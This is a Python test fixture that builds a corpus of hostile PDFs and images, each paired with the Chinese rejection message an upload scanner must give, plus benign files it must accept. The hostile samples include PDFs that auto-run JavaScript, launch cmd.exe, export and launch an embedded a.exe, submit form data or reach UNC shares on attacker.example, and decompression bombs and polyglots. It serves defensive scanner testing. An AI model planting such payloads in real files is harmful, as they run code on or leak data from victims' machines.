"""Upload corpus: hostile files — the bypasses a security probe found in the old byte scanner, and patterns seen in
public collections of malicious PDFs — each with the words its refusal must say, and ordinary files with the content
type they must be accepted as. Built in code, so every byte is visible here and in tests/samples.py."""
from __future__ import annotations

import io
import zlib

from pypdf import PdfWriter

from tests.samples import (
    CATALOG,
    PAGE,
    compressed_pdf,
    image,
    jpeg_declaring,
    object_stream,
    pages,
    pdf,
    png_chunk,
    png_declaring,
    stream,
)

SCRIPT, AUTO, LINK, FORM = "含有脚本", "含有自动执行的动作", "含有外部链接或打开其他文件的动作", "含有交互表单"
EMBEDDED, MEDIA, LAUNCH = "含有嵌入文件", "含有富媒体", "含有启动程序的动作"
UNREADABLE, COMPLEX, ENCRYPTED = "无法作为PDF读取", "结构过于复杂", "已加密"
NOT_IMAGE, TOO_LARGE, MISMATCH = "无法作为图片读取", "图像尺寸过大", "扩展名与内容不符"


def catalog_with(entries: bytes, **objects: bytes) -> bytes:
    """A one-page PDF whose catalog has entries added (objects given as o4=…, o5=…)."""
    return pdf({1: CATALOG[:-2] + entries + b" >>", **{int(k[1:]): v for k, v in objects.items()}})


def opening(action: bytes, **objects: bytes) -> bytes:
    return catalog_with(b"/OpenAction " + action, **objects)


def annotated(annotation: bytes, **objects: bytes) -> bytes:
    """A one-page PDF whose page carries one annotation (object 4)."""
    return pdf({3: PAGE[:-2] + b"/Annots [4 0 R] >>", 4: annotation,
                **{int(k[1:]): v for k, v in objects.items()}})


def updated(original: bytes, objects: dict[int, bytes]) -> bytes:
    """original with an incremental update (a new revision, as editors append it) replacing objects."""
    out = bytearray(original)
    previous = int(original.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for number, at in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, at)
    size = max(max(objects) + 1, 4)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def written(password: str | None = None) -> bytes:
    """Three blank pages written by pypdf, encrypted (RC4, opening without a password) when password is given."""
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    if password:
        writer.encrypt(user_password="", owner_password=password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def nested(depth: int) -> bytes:
    return catalog_with(b"/Extra " + b"[" * depth + b"]" * depth)


def many_objects(count: int) -> bytes:
    return pdf({n: b"null" for n in range(4, 4 + count)})


def inflating_object_streams(megabytes: int, count: int = 1) -> bytes:
    """count object streams whose few kilobytes each inflate to megabytes of spaces."""
    content = zlib.compress(b"6 0 " + b" " * (megabytes * 1024 * 1024) + b"null", 9)
    return pdf({4 + i: stream(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content) for i in range(count)})


JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
UNC = rb"(\\\\\\\\attacker.example\\\\share\\\\x.pdf)"
HOSTILE = {
    # the probe's bypasses of the byte scanner
    "JavaScript after a string holding 'stream\\n'": (
        "string.pdf", catalog_with(b"/Title (see stream\n) /OpenAction 4 0 R", o4=JS), SCRIPT),
    "object stream opened with 'stream\\r'": ("cr.pdf", pdf({4: object_stream({6: JS}, eol=b"\r")}), SCRIPT),
    "script packed in an object stream the xref stream lists": ("packed.pdf", compressed_pdf(
        {4: b"<< /Type /Catalog /OpenAction 5 0 R >>", 5: JS}), SCRIPT),
    "object stream whose member points at a script": ("objstm.pdf", pdf({4: object_stream({6: b"<< /JS 7 0 R >>"})}), SCRIPT),
    "OpenAction URI": ("uri.pdf", opening(b"<< /S /URI /URI (http://attacker.example/) >>"), LINK),
    "OpenAction SubmitForm": ("submit.pdf", opening(b"<< /S /SubmitForm /F (http://attacker.example/) >>"), FORM),
    "OpenAction GoToR to a UNC path": ("unc.pdf", opening(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"), LINK),
    "OpenAction GoToE": ("gotoe.pdf", opening(b"<< /S /GoToE /T << /R /C /N (x) >> >>"), LINK),
    "OpenAction ImportData": ("import.pdf", opening(b"<< /S /ImportData /F " + UNC + b" >>"), FORM),
    "OpenAction Launch": ("launch.pdf", opening(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), LAUNCH),
    "OpenAction printing by itself": ("print.pdf", opening(b"<< /S /Named /N /Print >>"), AUTO),
    "OpenAction GoTo chained to a script": ("next.pdf", opening(b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
                                                                o4=JS), AUTO),
    "XFA form with a script": ("xfa.pdf", catalog_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", o4=stream(
        b"<<", b"<xdp:xdp><template><script contentType='application/x-javascript'>app.alert(1)</script>"
               b"</template></xdp:xdp>")), FORM),
    "JavaScript in an annotation's /A": ("annot.pdf", annotated(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>", o5=JS), SCRIPT),
    "JavaScript in the Names tree": ("names.pdf", catalog_with(b"/Names << /JavaScript 4 0 R >>", o4=(
        b"<< /Names [(init) 5 0 R] >>"), o5=JS), SCRIPT),
    "embedded file in the Names tree": ("embedded.pdf", catalog_with(b"/Names << /EmbeddedFiles 4 0 R >>", o4=(
        b"<< /Names [(a.exe) 5 0 R] >>"), o5=b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        o6=stream(b"<< /Type /EmbeddedFile", b"MZ")), EMBEDDED),
    "file attachment annotation": ("attach.pdf", annotated(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>"), EMBEDDED),
    "page additional action with a script": ("pageaa.pdf", pdf({3: PAGE[:-2] + b"/AA << /O 4 0 R >> >>", 4: JS}),
                                             SCRIPT),
    "form field additional action": ("field.pdf", catalog_with(b"/AcroForm << /Fields [4 0 R] >>", o4=(
        b"<< /FT /Tx /T (name) /AA << /K << /S /Named /N /Print >> >> >>")), AUTO),
    "encrypted (empty user password)": ("locked.pdf", written(password="owner"), ENCRYPTED),
    "truncated": ("cut.pdf", pages(3)[:700], UNREADABLE),
    "no page": ("nopage.pdf", pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>", 3: b"null"}), UNREADABLE),
    "30000 objects": ("objects.pdf", many_objects(30_000), COMPLEX),
    "arrays nested 60 deep": ("deep.pdf", nested(60), COMPLEX),
    "arrays nested 5000 deep": ("deeper.pdf", nested(5_000), "无法"),
    "object stream inflating to 60 MB": ("zip.pdf", inflating_object_streams(60), COMPLEX),
    "50 object streams inflating to 30 MB each": ("zips.pdf", inflating_object_streams(30, count=50), COMPLEX),
    "page tree in a cycle": ("cycle.pdf", pdf({3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"}),
                             UNREADABLE),
    # patterns of public malicious-PDF collections
    "names hex-escaped (/J#61vaScript)": ("hex.pdf", opening(b"<< /S /J#61vaScript /J#53 (x) >>"), SCRIPT),
    "JavaScript in a compressed stream": ("jsstream.pdf", opening(b"<< /S /JavaScript /JS 4 0 R >>", o4=stream(
        b"<< /Filter /FlateDecode", zlib.compress(b"this.exportDataObject({cName: 'a', nLaunch: 2});"))), SCRIPT),
    "OpenAction added by an incremental update": ("update.pdf", updated(pdf(), {
        1: CATALOG[:-2] + b"/OpenAction 5 0 R >>", 5: JS}), SCRIPT),
    "phishing link annotation": ("phish.pdf", annotated(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://bank.example.cn) >> >>"),
        LINK),
    "Rendition action (media with script)": ("media.pdf", opening(b"<< /S /Rendition /JS (x) >>"), SCRIPT),
    "RichMedia (Flash) annotation": ("flash.pdf", annotated(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] "
                                                            b"/RichMediaContent << >> >>"), MEDIA),
    "header after junk (Acrobat reads it)": ("junk.pdf", b"MZ" + b"\0" * 100 + pdf(), "不是PDF、JPEG或PNG文件"),
    "not a PDF after the header": ("fake.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", UNREADABLE),
    # images
    "PNG with IHDR not first": ("ihdr.png", png_declaring(64, 64, first=png_chunk(b"tEXt", b"a\0b")), NOT_IMAGE),
    "huge PNG with IHDR not first": ("ihdr2.png", png_declaring(90_000, 90_000, first=png_chunk(b"tEXt", b"a\0b")),
                                     NOT_IMAGE),
    "PNG 100000 x 100000": ("huge.png", png_declaring(100_000, 100_000), TOO_LARGE),
    "PNG 20001 x 1": ("wide.png", png_declaring(20_001, 1), TOO_LARGE),
    "PNG decompression bomb (6400 x 6400 of zero rows)": ("bomb.png", image("PNG", 6_400, 6_400, mode="1"),
                                                          TOO_LARGE),
    "PNG truncated": ("cut.png", image("PNG", 64, 64)[:-30], NOT_IMAGE),
    "PNG with a bad CRC": ("crc.png", image("PNG", 64, 64)[:-5] + b"\0" + image("PNG", 64, 64)[-4:], NOT_IMAGE),
    "PNG with a file after IEND": ("tail.png", image("PNG", 64, 64) + b"PK\x03\x04" + bytes(40), NOT_IMAGE),
    "JPEG with junk after APP0, 30000 x 30000": ("junk.jpg", jpeg_declaring(30_000, 30_000, junk=b"\0"), TOO_LARGE),
    "JPEG 30000 x 30000": ("huge.jpg", jpeg_declaring(30_000, 30_000), TOO_LARGE),
    "progressive JPEG 21000 x 10": ("wide.jpg", jpeg_declaring(21_000, 10, frame=0xC2), TOO_LARGE),
    "JPEG truncated": ("cut.jpg", image("JPEG", 64, 64)[:300], NOT_IMAGE),
    "PDF disguised as PNG": ("photo.png", pdf(), MISMATCH),
    "JPEG disguised as PNG": ("photo2.png", image("JPEG", 16, 16), MISMATCH),
    "PNG signature over JPEG data": ("sig.png", b"\x89PNG\r\n\x1a\n" + image("JPEG", 16, 16), NOT_IMAGE),
    "GIF named .png": ("anim.png", image("GIF", 16, 16), "不是PDF、JPEG或PNG文件"),
    "PNG/PDF polyglot (PDF in a text chunk)": ("poly.png", png_declaring(1, 1, first=b"")[:33] + png_chunk(
        b"tEXt", b"c\0" + pdf()) + png_declaring(1, 1)[33:], NOT_IMAGE),
    "JPEG/PDF polyglot (PDF in a comment)": ("poly.jpg", image("JPEG", 16, 16)[:2] + b"\xff\xfe" + (
        len(pdf()) + 2).to_bytes(2, "big") + pdf() + image("JPEG", 16, 16)[2:], NOT_IMAGE),
    "empty": ("empty.png", b"", "是空的"),
}
ORDINARY = {
    "one page": ("letter.pdf", pdf(), "application/pdf"),
    "object and xref streams (PDF 1.5+)": ("modern.pdf", compressed_pdf(), "application/pdf"),
    "five pages with an in-document GoTo link": ("report.pdf", pages(5), "application/pdf"),
    "opening at page one": ("open.pdf", opening(b"[3 0 R /Fit]"), "application/pdf"),
    "opening with a GoTo action": ("goto.pdf", opening(b"<< /S /GoTo /D [3 0 R /FitH 800] >>"), "application/pdf"),
    "page opening with a GoTo": ("pagego.pdf", pdf({3: PAGE[:-2] + b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>"}),
                                 "application/pdf"),
    "version 1.4 with a trailing comment": ("old.pdf", pdf(version=b"1.4") + b"%scanner\n", "application/pdf"),
    "written by pypdf": ("pypdf.pdf", written(), "application/pdf"),
    "PNG grey": ("scan.png", image("PNG", 800, 600, mode="L"), "image/png"),
    "PNG with alpha": ("logo.png", image("PNG", 64, 64, mode="RGBA"), "image/png"),
    "PNG with a palette": ("map.png", image("PNG", 64, 64, mode="P"), "image/png"),
    "PNG interlaced": ("web.png", image("PNG", 64, 64, interlace=1), "image/png"),
    "JPEG baseline": ("photo.jpg", image("JPEG", 1024, 768), "image/jpeg"),
    "JPEG progressive": ("photo2.jpeg", image("JPEG", 640, 480, progressive=True), "image/jpeg"),
    "JPEG, upper-case name": ("IMG_0001.JPG", image("JPEG", 64, 64, mode="L"), "image/jpeg"),
}
